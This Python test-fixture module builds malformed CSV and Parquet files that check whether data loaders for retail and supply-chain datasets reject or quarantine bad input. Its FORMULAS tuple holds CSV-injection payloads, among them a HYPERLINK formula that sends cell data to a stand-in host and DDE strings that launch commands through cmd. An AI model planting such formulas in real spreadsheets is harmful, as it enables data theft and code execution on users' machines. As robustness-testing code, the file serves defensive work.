"""A corpus of hostile source files for every loader, built at test time (nothing committed).

Each loader has a small valid source (the loader tests' own fixtures) and one "main" file that
the mutations below break: wrong encodings, binary garbage, empty files, a header alone, huge
numbers, wrong types, formula-injection text, NUL bytes and ragged rows. Every mutation says
what a correct loader must do with it: stop with a `SourceError`, or load and quarantine.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

from features.sources import Source
from tests.features.loaders.test_carparts import _rows as carparts_rows
from tests.features.loaders.test_m5 import _frames as m5_frames
from tests.features.loaders.test_scms import _scms_rows

__all__ = [
    "FORMULAS",
    "LOADERS",
    "MUTATIONS",
    "LoaderCase",
    "Mutation",
    "write_garbage",
]

# OWASP "CSV injection": a spreadsheet runs a cell starting with = + - @ (or tab / CR).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)
HUGE = ("1e400", "-1e400", "1e308", "99999999999999999999999999999", "NaN", "inf", "-0")
WRONG = ("abc", "12,5,6", "true", "2026-01-01", "0x1F", "")


@dataclass(frozen=True)
class LoaderCase:
    """A valid source for one loader and the columns of its main file by kind."""

    source: Source
    frames: Callable[[], dict[str, pd.DataFrame]]
    main: str
    numbers: tuple[str, ...]
    texts: tuple[str, ...]
    dates: tuple[str, ...]

    def write(self, folder: Path, frames: dict[str, pd.DataFrame] | None = None) -> Path:
        """The source as CSV files in `folder` (the path to give the loader)."""
        folder.mkdir(parents=True, exist_ok=True)
        for name, frame in (frames or self.frames()).items():
            frame.to_csv(folder / f"{name}.csv", index=False)
        return folder

    def main_file(self, folder: Path) -> Path:
        return folder / f"{self.main}.csv"


def _canonical() -> dict[str, pd.DataFrame]:
    days = pd.date_range("2026-01-05", periods=6, freq="D").strftime("%Y-%m-%d")
    sales = pd.DataFrame(
        {
            "sku": ["A1"] * 6 + ["B2"] * 6,
            "location": ["S1"] * 12,
            "date": list(days) * 2,
            "units": [3, 0, 5, 2, 1, 4] * 2,
            "price": [9.5] * 12,
            "on_promo": ["false"] * 12,
        }
    )
    items = pd.DataFrame(
        {"sku": ["A1", "B2"], "category": ["tools", "toys"], "supplier": ["acme", "globex"]}
    )
    return {"sales": sales, "items": items}


def _walmart() -> dict[str, pd.DataFrame]:
    weeks = ["2010-02-05", "2010-02-12", "2010-02-19"]
    train = pd.DataFrame(
        {
            "Store": [1, 1, 1, 2, 2, 2],
            "Dept": [1, 1, 1, 10, 10, 10],
            "Date": weeks * 2,
            "Weekly_Sales": [100.0, 20.5, 300.0, 40.0, 50.0, 60.0],
            "IsHoliday": [False, True, False] * 2,
        }
    )
    features = pd.DataFrame(
        {
            "Store": [1, 1, 1, 2, 2, 2],
            "Date": weeks * 2,
            "IsHoliday": [False, True, False] * 2,
            **{f"MarkDown{i}": [None] * 6 for i in range(1, 6)},
        }
    )
    stores = pd.DataFrame({"Store": [1, 2], "Type": ["A", "B"], "Size": [151315, 202307]})
    return {"train": train, "features": features, "stores": stores}


LOADERS = {
    "csv": LoaderCase(
        Source.CSV, _canonical, "sales", ("units", "price"), ("sku", "location"), ("date",)
    ),
    "walmart": LoaderCase(
        Source.WALMART,
        _walmart,
        "train",
        ("Weekly_Sales", "Store", "Dept"),
        ("Dept",),
        ("Date",),
    ),
    "scms": LoaderCase(
        Source.SCMS,
        lambda: {"scms_delivery_history": _scms_rows()},
        "scms_delivery_history",
        ("Line Item Quantity", "Line Item Value", "Pack Price"),
        ("Vendor", "Item Description", "Country", "Manufacturing Site", "Product Group"),
        ("Delivered to Client Date", "PO Sent to Vendor Date"),
    ),
    "carparts": LoaderCase(
        Source.CARPARTS,
        lambda: {"carparts": carparts_rows()},
        "carparts",
        ("value",),
        ("series_name",),
        ("period",),
    ),
    "m5": LoaderCase(
        Source.M5,
        m5_frames,
        "sales_train_evaluation",
        ("d_1", "d_2", "d_3"),
        ("item_id", "store_id"),
        (),
    ),
}


def _cells(case: LoaderCase, columns: tuple[str, ...], values: tuple[str, ...]) -> Callable:
    def mutate(folder: Path) -> None:
        frames = case.frames()
        main = frames[case.main].astype("object")
        for i, column in enumerate(columns):
            for row in range(len(main)):
                main.loc[row, column] = values[(row + i) % len(values)]
        frames[case.main] = main
        case.write(folder, frames)

    return mutate


def _raw(transform: Callable[[bytes], bytes]) -> Callable[[LoaderCase], Callable]:
    def for_case(case: LoaderCase) -> Callable[[Path], None]:
        def mutate(folder: Path) -> None:
            case.write(folder)
            path = case.main_file(folder)
            path.write_bytes(transform(path.read_bytes()))

        return mutate

    return for_case


def _latin1(data: bytes) -> bytes:
    lines = data.decode("utf-8").splitlines()
    # A non-ASCII character in the first data row, the file saved as Latin-1 (Excel's habit).
    first, *rest = lines[1].split(",")
    return "\n".join([lines[0], ",".join([first + "é€ß", *rest]), *lines[2:]]).encode("cp1252")


def _ragged(data: bytes) -> bytes:
    lines = data.decode("utf-8").splitlines()
    return "\n".join([*lines[:2], lines[2] + ",extra,fields,here", *lines[3:]]).encode()


def _nul(data: bytes) -> bytes:
    lines = data.split(b"\n")
    return b"\n".join([lines[0], lines[1].replace(b",", b"\x00,", 1), *lines[2:]])


def _parquet_garbage(case: LoaderCase) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        case.write(folder)
        case.main_file(folder).unlink()
        (folder / f"{case.main}.parquet").write_bytes(random.Random(7).randbytes(64 * 1024))

    return mutate


@dataclass(frozen=True)
class Mutation:
    """How to break a loader's source, and what must happen: "error" (a `SourceError`),
    "quarantine" (loads; at least one row quarantined) or "either" (no crash either way)."""

    build: Callable[[LoaderCase], Callable[[Path], None]]
    expect: str


MUTATIONS = {
    "cp1252 encoding": Mutation(_raw(_latin1), "error"),
    "utf-16 encoding": Mutation(_raw(lambda d: d.decode("utf-8").encode("utf-16")), "error"),
    "binary garbage": Mutation(_raw(lambda _: random.Random(3).randbytes(64 * 1024)), "error"),
    "empty file": Mutation(_raw(lambda _: b""), "error"),
    "header only": Mutation(_raw(lambda d: d.split(b"\n")[0] + b"\n"), "either"),
    "ragged row": Mutation(_raw(_ragged), "error"),
    "nul bytes": Mutation(_raw(_nul), "either"),
    "parquet garbage": Mutation(_parquet_garbage, "error"),
    "huge numbers": Mutation(lambda c: _cells(c, c.numbers, HUGE), "quarantine"),
    "wrong types": Mutation(lambda c: _cells(c, c.numbers + c.dates, WRONG), "quarantine"),
    "formula injection": Mutation(lambda c: _cells(c, c.texts, FORMULAS), "either"),
}


def write_garbage(path: Path, megabytes: int, *, text: bool) -> Path:
    """`megabytes` of seeded garbage: random bytes, or printable text with commas and no line
    break (a 100 MB "header" is the worst case for a CSV reader)."""
    rng = random.Random(megabytes)
    printable = bytes(32 + b % 95 for b in range(256))  # ' '..'~', commas included
    with path.open("wb") as out:
        for _ in range(megabytes):
            block = rng.randbytes(1 << 20)
            out.write(block.translate(printable) if text else block)
    return path
